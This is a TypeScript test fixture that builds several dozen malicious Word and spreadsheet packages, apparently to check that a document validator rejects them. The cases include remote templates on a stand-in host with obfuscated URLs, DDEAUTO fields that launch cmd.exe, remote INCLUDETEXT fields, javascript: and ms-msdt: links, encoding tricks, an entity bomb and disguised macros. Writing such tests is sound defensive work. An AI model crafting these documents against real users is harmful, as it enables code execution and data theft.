import {
  contentTypes,
  document,
  docx,
  docxParts,
  outside,
  relations,
  type ZipFile,
  zip,
} from '../../cvs.test-helper.ts';

const officeKinds = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (attributes: string) => `<Relationship ${attributes}/>`;
const inRelations = (more: string, part = 'settings') => docx([relations(more, `word/_rels/${part}.xml.rels`)]);
const withTemplate = (target: string) => inRelations(outside('attachedTemplate', target));
const withText = (inside: string) =>
  zip([contentTypes(), relations(), document('word/document.xml', `</w:t></w:r>${inside}<w:r><w:t>`)]);
const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
const field = (...pieces: string[]) =>
  `${begin}${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('')}${end}`;
export const documentWithField = (...pieces: string[]) => withText(field(...pieces));
const part = (content: string | Uint8Array, name = 'word/styles.xml'): ZipFile => ({ name, content });
export const sheet = (more: ZipFile[] = []) =>
  zip([
    contentTypes('/xl/workbook.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
    { name: 'xl/workbook.xml', content: '<workbook/>' },
    ...more,
  ]);
const typedAs = (type: string, extra: ZipFile) =>
  zip([
    {
      ...contentTypes(),
      content: String(contentTypes().content).replace(
        '</Types>',
        `<Default Extension="dat" ContentType="${type}"/></Types>`,
      ),
    },
    relations(),
    document(),
    extra,
  ]);

export const hostileDocuments: [what: string, file: Buffer][] = [
  [
    'a document that is nothing but beginnings',
    zip([contentTypes(), { name: '_rels/.rels', content: '<'.repeat(40_000) }, document()]),
  ],
  [
    'a document of half a million beginnings',
    zip([contentTypes(), { name: '_rels/.rels', content: '<Relationship '.repeat(40_000) }, document()]),
  ],
  [
    'a document with a template in numbers for letters',
    inRelations(
      relation(
        `Id="r" Type="${officeKinds}/attached&#84;emplate" Target="&#104;ttps://evil.example/t.dotm" TargetMode="Ext&#x65;rnal"`,
      ),
    ),
  ],
  [
    'a document with a sign in a mark',
    inRelations(
      relation(
        `Id="r>1" Type="${officeKinds}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"`,
      ),
    ),
  ],
  [
    'a document with a template in simple quotes',
    inRelations(
      relation(
        `Id='r"' Type='${officeKinds}/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'`,
      ),
    ),
  ],
  [
    'a document whose relations have another prefix',
    inRelations(
      outside('oleObject', 'http://evil.example/x').replace(
        '<Relationship',
        '<p:Relationship xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships"',
      ),
    ),
  ],
  [
    'a document with a template of the strict kind',
    inRelations(
      outside('attachedTemplate', 'https://evil.example/t').replace(
        officeKinds,
        'http://purl.oclc.org/ooxml/officeDocument/relationships',
      ),
    ),
  ],
  ...[
    '//evil.example/t.dotm',
    '\\\\evil.example\\t.dotm',
    'file:////evil.example/t.dotm',
    'file:///\\\\evil.example/t.dotm',
    'FILE:/%5C%5Cevil.example/t.dotm',
    '\\\\?\\UNC\\evil.example\\t',
    '/\\evil.example/t',
    'h&#9;ttps://evil.example/t',
    'mhtml:http://evil.example/t',
  ].map((target): [string, Buffer] => [`a document with a template at ${target}`, withTemplate(target)]),
  [
    'a document with a picture on the internet',
    inRelations(outside('image', 'https://evil.example/p.png'), 'document'),
  ],
  ['a document with a picture on a share', inRelations(outside('image', '//evil.example/p.png'), 'document')],
  [
    'a document whose inside leads outside',
    inRelations(outside('image', 'https://evil.example/p.png').replace(' TargetMode="External"', ''), 'document'),
  ],
  [
    'a document with a mode that nobody knows',
    inRelations(outside('image', 'p.png').replace('External', 'external'), 'document'),
  ],
  ['a document with a film on the internet', inRelations(outside('video', 'https://evil.example/f'), 'document')],
  [
    'a document with foreign text',
    docx([
      relations(relation(`Id="r" Type="${officeKinds}/aFChunk" Target="x.dat"`), 'word/_rels/document.xml.rels'),
      part('MIME', 'word/x.dat'),
    ]),
  ],
  [
    'a document with a link that is a script',
    inRelations(outside('hyperlink', 'java&#10;script:alert(1)'), 'document'),
  ],
  ['a document with a link that starts a program', inRelations(outside('hyperlink', 'ms-msdt:/id'), 'document')],
  ['a document with a link to a share', inRelations(outside('hyperlink', 'file://evil.example/x'), 'document')],
  [
    'a document with relations in another alphabet',
    docx([
      {
        ...relations('', 'word/_rels/settings.xml.rels'),
        content: Buffer.from(
          `\ufeff${relations(outside('attachedTemplate', 'https://evil.example/t')).content}`.replace(
            'UTF-8',
            'UTF-16',
          ),
          'utf16le',
        ),
      },
    ]),
  ],
  ['a document in an alphabet of old', docx([part('<?xml version="1.0" encoding="utf-7"?><a>+ADw-</a>')])],
  [
    'a document that starts a program by a field',
    documentWithField('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
  ],
  ['a document that starts one by a field in pieces', documentWithField(' DD', 'EAU', 'TO cmd')],
  ['a document that starts one by a field of one piece', withText('<w:fldSimple w:instr="DDE cmd"/>')],
  [
    'a document with a field that never ends',
    withText('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r>'),
  ],
  ['a document with the text of another', documentWithField('INCLUDETEXT "https://evil.example/x"')],
  [
    'a document with a field that only points at a picture',
    documentWithField('INCLUDEPICTURE "https://evil.example/x" \\d'),
  ],
  ['a document with a field that points at a share', documentWithField('INCLUDEPICTURE "\\\\\\\\evil.example\\\\x"')],
  [
    'a document with an old drawing from outside',
    withText('<w:pict><v:imagedata src="https://evil.example/x" xmlns:v="urn:schemas-microsoft-com:vml"/></w:pict>'),
  ],
  ['a document with an element too many', docx([part(`${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`)])],
  ['a document with an element that is not closed', docx([part('<a>')])],
  ['a document with sixteen megabytes of text', docx([part(`<a>${' '.repeat(16 * 1024 * 1024)}</a>`)])],
  [
    'a document with an entity bomb under another ending',
    typedAs('application/x+xml', part('<!DOCTYPE b [<!ENTITY a "a">]><b/>', 'word/b.dat')),
  ],
  [
    'a document with macros under another ending',
    typedAs('application/vnd.ms-office.vbaProject', part('Sub', 'word/b.dat')),
  ],
  [
    'a document with a table that has macros',
    docx([part(sheet([part('Sub', 'xl/vbaProject.bin')]), 'word/embeddings/Foglio1.xlsx')]),
  ],
  ['a document with a table that is none', docx([part('MZ', 'word/embeddings/Foglio1.xlsx')])],
  [
    'a document in a document in a document',
    docx([part(docx([part(docx(), 'word/embeddings/a.docx')]), 'word/embeddings/a.docx')]),
  ],
  ['a document with a very long name in it', docx([part('x', `word/media/${'a'.repeat(400)}.png`)])],
  ['a document without an element', docx([part('<?xml version="1.0"?>')])],
  [
    'a document whose parts share their bytes',
    zip([...docxParts(), { name: 'word/a.png', content: 'x'.repeat(99), claims: { packedSize: 5000 } }]),
  ],
];
